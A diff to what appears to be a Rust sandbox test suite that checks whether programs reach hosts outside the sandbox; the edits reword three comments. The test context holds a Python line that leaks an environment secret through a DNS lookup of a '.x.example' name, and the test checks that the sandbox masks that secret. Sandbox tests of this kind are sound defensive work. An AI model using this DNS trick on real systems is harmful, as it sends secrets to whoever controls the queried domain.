@@ -1,4 +1,4 @@
-//! What programs reach beyond their sandbox, and what they do not.
+//! Hosts that programs reach beyond their sandbox, and hosts that they do not.
 
 pub(crate) mod internet;
 
@@ -204,7 +204,7 @@ for ask in (socket.gethostbyname, lambda name: socket.create_connection((name, 8
         "{}",
         cell.stdout
     );
-    // What a program makes of a secret is masked there, too.
+    // A text that a program makes of a secret is masked there, too.
     let mut asking = python(
         "import os, socket\ntry: socket.gethostbyname(os.environ['KEY'] + '.x.example')\nexcept OSError: pass",
     );
@@ -221,7 +221,7 @@ for ask in (socket.gethostbyname, lambda name: socket.create_connection((name, 8
         masked.contains("***.x.example") && !masked.contains("hunter2"),
         "{masked}"
     );
-    // A later run in the same sandbox hears of nobody else's names.
+    // A later run in the same sandbox does not learn the names of others.
     for _ in 0..4 {
         assert_eq!(server.python("1").await.warnings, [] as [String; 0]);
     }
